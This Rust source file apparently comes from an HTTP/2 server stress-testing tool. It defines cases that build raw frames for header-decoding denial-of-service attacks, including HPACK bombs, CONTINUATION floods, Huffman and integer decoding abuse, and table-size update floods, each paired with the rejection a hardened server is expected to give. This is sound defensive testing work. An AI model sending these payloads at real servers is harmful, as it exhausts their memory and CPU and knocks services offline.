//! HTTP/2: field sections that cost more to decode than to send.

use super::{COMPRESSION_ERROR, END, ENHANCE_YOUR_CALM, PROTOCOL_ERROR};
use crate::attack::{Answer, Attack, H2, Pace, Step, open_h2, open_h2_with, request, stream};
use crate::raw_h2::{CONTINUATION, END_HEADERS, END_STREAM, HEADERS, frame, get};
use std::time::Duration;

/// All rows of this kind.
pub const ALL: &[Attack] = &[
    Attack {
        name: "Field without a name",
        cve: "CVE-2019-9516",
        step: |n| section(n, &[0, 0, 1, b'x'].repeat(8)),
        answer: Answer::Reset(PROTOCOL_ERROR),
        ..H2
    },
    Attack {
        name: "HPACK bomb: 4 KiB, 16,000 times",
        cve: "CVE-2016-6581",
        opening: || [open_h2(), remember(4_000)].concat(),
        step: |n| section(n + 1, &[0xbe; 16_000]),
        answer: Answer::GoAway(ENHANCE_YOUR_CALM, 1),
        ..H2
    },
    Attack {
        name: "HPACK bomb: 4 KiB, 15 times",
        cve: "CVE-2016-6581",
        opening: || [open_h2(), remember(4_000)].concat(),
        step: |n| section(n + 1, &[0xbe; 15]),
        answer: Answer::Status(431),
        ..H2
    },
    Attack {
        name: "HPACK bomb: small field, 16,000 times",
        cve: "CVE-2026-49975",
        opening: || [open_h2(), remember(1)].concat(),
        step: |n| section(n + 1, &[0xbe; 16_000]),
        answer: Answer::GoAway(ENHANCE_YOUR_CALM, 1),
        ..H2
    },
    Attack {
        name: "Cookie crumbs",
        cve: "",
        step: |n| section(n, &[0x0f, 0x11, 1, b'a'].repeat(1_001)),
        answer: Answer::Status(431),
        ..H2
    },
    Attack {
        name: "Cookie crumbs, 16,000 times an empty one",
        cve: "CVE-2026-49975",
        step: |n| section(n, &[&[0x60, 0][..], &[0xbe; 16_000]].concat()),
        answer: Answer::GoAway(ENHANCE_YOUR_CALM, 1),
        ..H2
    },
    Attack {
        name: "Field blocks of 60 KiB",
        cve: "",
        step: |n| {
            let lines = [0, 1, b'a', 1, b'b'].repeat(3_000);
            let mut bytes = frame(HEADERS, END_STREAM, stream(n), &get("/4k"));
            for last in [0, 0, 0, END_HEADERS] {
                bytes.extend(frame(CONTINUATION, last, stream(n), &lines));
            }
            Step::Send(bytes)
        },
        answer: Answer::GoAway(ENHANCE_YOUR_CALM, 6),
        ..H2
    },
    Attack {
        name: "Field blocks of 60 KiB, four long values",
        cve: "",
        step: |n| {
            let line = [&[0, 1, b'a', 0x7f, 0x99, 0x74][..], &[b'x'; 15_000]].concat();
            let mut bytes = frame(HEADERS, END_STREAM, stream(n), &get("/4k"));
            for last in [0, 0, 0, END_HEADERS] {
                bytes.extend(frame(CONTINUATION, last, stream(n), &line));
            }
            Step::Send(bytes)
        },
        answer: Answer::Status(431),
        ..H2
    },
    Attack {
        name: "Huffman strings",
        cve: "CVE-2022-41723",
        // 8,000 bytes of zeros are 12,800 times the digit 0.
        step: |n| {
            section(
                n,
                &[&[0, 1, b'a', 0xff, 0xc1, 0x3d][..], &[0; 8_000]].concat(),
            )
        },
        answer: Answer::Status(200),
        ..H2
    },
    Attack {
        name: "Huffman strings, a byte a write",
        cve: "CVE-2022-41723",
        step: |n| {
            let block = [
                &get("/4k")[..],
                &[0, 1, b'a', 0xff, 0xc1, 0x3d],
                &[0; 8_000],
            ]
            .concat();
            let whole = (9 + block.len()) as u32;
            let bytes = frame(HEADERS, END, stream(n / whole), &block);
            Step::Send(vec![bytes[(n % whole) as usize]])
        },
        pace: Pace::Every(Duration::ZERO),
        ..H2
    },
    Attack {
        name: "Long integers",
        cve: "CVE-2022-41723",
        step: |n| {
            section(
                n,
                &[
                    0x7f, 0x80, 0x80, 0x80, 0x80, 0x80, 0x80, 0x80, 0x80, 0x80, 1,
                ],
            )
        },
        answer: Answer::GoAway(COMPRESSION_ERROR, 1),
        ..H2
    },
    Attack {
        name: "Table size updates, a thousand",
        cve: "",
        step: |n| {
            let block = [&[0x20; 1_000][..], &get("/4k")].concat();
            Step::Send(frame(HEADERS, END, stream(n), &block))
        },
        answer: Answer::GoAway(COMPRESSION_ERROR, 1),
        ..H2
    },
    Attack {
        name: "Table size update behind a field",
        cve: "",
        step: |n| section(n, &[0x20]),
        answer: Answer::GoAway(COMPRESSION_ERROR, 1),
        ..H2
    },
    Attack {
        name: "A table of 4 GiB",
        cve: "",
        opening: || open_h2_with(&[(1, u32::MAX)]),
        step: |n| Step::Send(request(n, "/unknown.qqq")),
        pace: Pace::Answered(1),
        answer: Answer::Status(200),
        memory_kib: 8,
        // The GETs come one by one, each with a read and a write of its own.
        cpu: 4.0,
        ..H2
    },
    Attack {
        name: "CONTINUATION flood",
        cve: "CVE-2024-27316",
        opening: || [open_h2(), frame(HEADERS, END_STREAM, 1, &get("/4k"))].concat(),
        step: |_| {
            Step::Send(frame(
                CONTINUATION,
                0,
                1,
                &[0, 1, b'a', 1, b'b'].repeat(200),
            ))
        },
        answer: Answer::GoAway(ENHANCE_YOUR_CALM, 9),
        ..H2
    },
    Attack {
        name: "CONTINUATION flood, empty",
        cve: "CVE-2024-27316",
        opening: || [open_h2(), frame(HEADERS, END_STREAM, 1, &get("/4k"))].concat(),
        step: |_| Step::Send(frame(CONTINUATION, 0, 1, &[])),
        answer: Answer::GoAway(ENHANCE_YOUR_CALM, 9),
        ..H2
    },
    Attack {
        name: "Field blocks that are held",
        cve: "CVE-2024-27316",
        opening: || {
            let block = [
                &get("/4k")[..],
                &[0, 1, b'a', 0x7f, 0xff, 0x7b],
                &[b'x'; 15_998],
            ]
            .concat();
            let more = frame(CONTINUATION, 0, 1, &[b'x'; 16_000]).repeat(3);
            let first = frame(HEADERS, END_STREAM, 1, &block[..16_000]);
            [open_h2(), first, more].concat()
        },
        step: |_| Step::Hold,
        memory_kib: 80,
        ..H2
    },
];

/// A request with the encoded `lines` behind its own.
fn section(n: u32, lines: &[u8]) -> Step {
    Step::Send(frame(
        HEADERS,
        END,
        stream(n),
        &[&get("/4k")[..], lines].concat(),
    ))
}

/// A request that puts a field with a value of `len` bytes into the table.
fn remember(len: u16) -> Vec<u8> {
    let len = usize::from(len);
    let mut block = get("/4k");
    block.extend([0x40, 1, b'a']);
    match len.checked_sub(127) {
        None => block.push(len as u8),
        Some(more) => block.extend([0x7f, 0x80 | (more % 128) as u8, (more / 128) as u8]),
    }
    block.extend(vec![b'x'; len]);
    frame(HEADERS, END, stream(0), &block)
}
